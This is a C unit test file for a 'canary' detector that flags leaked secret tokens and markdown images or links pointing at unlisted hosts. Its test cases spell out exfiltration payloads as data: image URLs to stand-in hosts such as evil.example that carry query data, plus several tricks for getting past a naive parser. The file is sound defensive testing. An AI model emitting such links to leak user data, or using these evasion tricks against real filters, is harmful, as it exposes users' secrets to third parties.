/* canary: token leaks (critical, redacted in the evidence), markdown images and links to
 * unlisted hosts (allow list with subdomains, userinfo tricks, relative URLs), hold. */
#include "sec_common.h"

static const struct driftd_detector_ops *ops(void)
{
	return driftd_detector_find("canary");
}

static const char *const tokens[] = {"ZX-CANARY-7781", "sk-canary-22"};
static const char *const allow[] = {"example.com", "docs.internal"};

static void *config(const char *exfil)
{
	void *cfg = sec_config(ops());
	struct driftd_list t = {.items = tokens, .n = 2, .cols = 1};
	struct driftd_list a = {.items = allow, .n = 2, .cols = 1};
	assert_int_equal(dd_param_set_list(ops(), cfg, "tokens", &t), 0);
	assert_int_equal(dd_param_set_list(ops(), cfg, "allow_hosts", &a), 0);
	assert_int_equal(dd_param_set_choice(ops(), cfg, "exfil_patterns", exfil), 0);
	assert_int_equal(dd_param_set_number(ops(), cfg, "hold", 1), 0);
	return cfg;
}

/* Feed a clean text (to let hold expire), then t; the verdict at t. */
static struct driftd_verdict at(struct dd_instance *in, const char *t)
{
	struct driftd_verdict v;
	struct sec_ev clean = {.value = sec_text("fine"), .client = "c1"};
	assert_int_equal(sec_feed(in, &clean, &v), 0);
	assert_int_equal(sec_feed(in, &clean, &v), 0);
	assert_false(v.drift);
	struct sec_ev e = {.value = sec_text(t), .client = "c9", .request = "r-1"};
	assert_int_equal(sec_feed(in, &e, &v), 0);
	return v;
}

static void test_tokens(void **unused)
{
	void *cfg = config("none");
	struct dd_instance *in = sec_new(ops(), cfg);
	struct driftd_verdict v = at(in, "the key is sk-canary-22, enjoy");
	assert_true(v.drift);
	assert_true(v.evidence->critical);
	assert_int_equal((int)sec_num(&v, "canary.index"), 1);
	/* redacted: only a prefix of the token is in the alert */
	assert_string_equal(sec_str(&v, "canary.token"), "sk-...");
	assert_string_equal(sec_str(&v, "client.id"), "c9");
	assert_string_equal(sec_str(&v, "request_id"), "r-1");
	assert_string_equal(v.evidence->tags[0], "leak:canary_token");
	v = at(in, "ZX-CANARY-778"); /* a prefix is not the token */
	assert_false(v.drift);
	v = at(in, "![x](https://evil.example/a.png)"); /* exfil off */
	assert_false(v.drift);
	dd_instance_free(in);
	free(cfg);
}

static void test_exfil_images(void **unused)
{
	void *cfg = config("images");
	struct dd_instance *in = sec_new(ops(), cfg);
	struct {
		const char *text;
		const char *host; /* NULL: clean */
	} cases[] = {
	    {"see ![chart](https://evil.example/c.png?q=secret)", "evil.example"},
	    {"![a](HTTP://Evil.Example:8080/x)", "Evil.Example"},
	    {"![a](//cdn.attacker.net/x)", "cdn.attacker.net"},
	    {"![a](https://user@evil.example/x)", "evil.example"},
	    {"![a](https://example.com/x.png)", NULL},
	    {"![a](https://img.example.com/x.png)", NULL}, /* subdomain allowed */
	    {"![a](https://badexample.com/x.png)", "badexample.com"},
	    {"![a](/static/x.png)", NULL},            /* relative */
	    {"[link](https://evil.example/x)", NULL}, /* links need images_and_links */
	    {"text ](https://evil.example/x) no bracket", NULL},
	    {"", NULL},
	    /* ways around a naive parser (review findings) */
	    {"![a](https://evil.example\\@example.com/x)", "evil.example"}, /* '\' is '/' */
	    {"![a [b] c](https://evil.example/x)", "evil.example"},         /* nested brackets */
	    {"![a](<https://evil.example/x>)", "evil.example"},             /* <destination> */
	    {"![a][r]\n\n[r]: https://evil.example/x", "evil.example"},     /* reference image */
	    {"[docs][r]\n\n[r]: https://evil.example/x", NULL}, /* a reference link: not an image */
	    {"[a] then [b] and ![c](https://example.com/x)", NULL},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct driftd_verdict v = at(in, cases[i].text);
		if (v.drift != (cases[i].host != NULL))
			fail_msg("case %zu (%s): drift %d", i, cases[i].text, v.drift);
		if (cases[i].host) {
			assert_string_equal(sec_str(&v, "exfil.host"), cases[i].host);
			assert_false(v.evidence->critical);
		}
	}
	dd_instance_free(in);
	free(cfg);
	cfg = config("images_and_links");
	in = sec_new(ops(), cfg);
	struct driftd_verdict v = at(in, "[click](https://evil.example/x?d=1)");
	assert_true(v.drift);
	v = at(in, "[docs](https://docs.internal/page)");
	assert_false(v.drift);
	/* Hostile text full of "](" is one pass, whatever its length (it was quadratic). */
	size_t big = 200000;
	char *t = malloc(big + 1);
	for (size_t i = 0; i < big; i += 2)
		memcpy(t + i, "](", 2);
	t[big] = '\0';
	v = at(in, t);
	assert_false(v.drift);
	free(t);
	dd_instance_free(in);
	free(cfg);
}

static void test_hold_and_snapshot(void **unused)
{
	void *cfg = config("images");
	assert_int_equal(dd_param_set_number(ops(), cfg, "hold", 5), 0);
	struct dd_instance *in = sec_new(ops(), cfg);
	struct driftd_verdict v;
	struct sec_ev leak = {.value = sec_text("ZX-CANARY-7781")}, ok = {.value = sec_text("ok")};
	assert_int_equal(sec_feed(in, &leak, &v), 0);
	assert_true(v.drift);
	for (int i = 0; i < 4; i++) {
		assert_int_equal(sec_feed(in, &ok, &v), 0);
		assert_true(v.drift);
	}
	struct dd_instance *c = sec_clone(in, cfg);
	assert_int_equal(sec_feed(in, &ok, &v), 0);
	assert_true(v.drift);
	assert_int_equal(sec_feed(in, &ok, &v), 0);
	assert_false(v.drift);
	assert_int_equal(sec_feed(c, &ok, &v), 0);
	assert_int_equal(sec_feed(c, &ok, &v), 0);
	assert_false(v.drift);
	/* numbers are not text */
	struct sec_ev num = {.value = {.type = DRIFTD_VALUE_NUMBER, .num = 1}};
	assert_int_equal(sec_feed(in, &num, &v), -EDOM);
	dd_instance_free(in);
	dd_instance_free(c);
	free(cfg);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_tokens),
	    cmocka_unit_test(test_exfil_images),
	    cmocka_unit_test(test_hold_and_snapshot),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
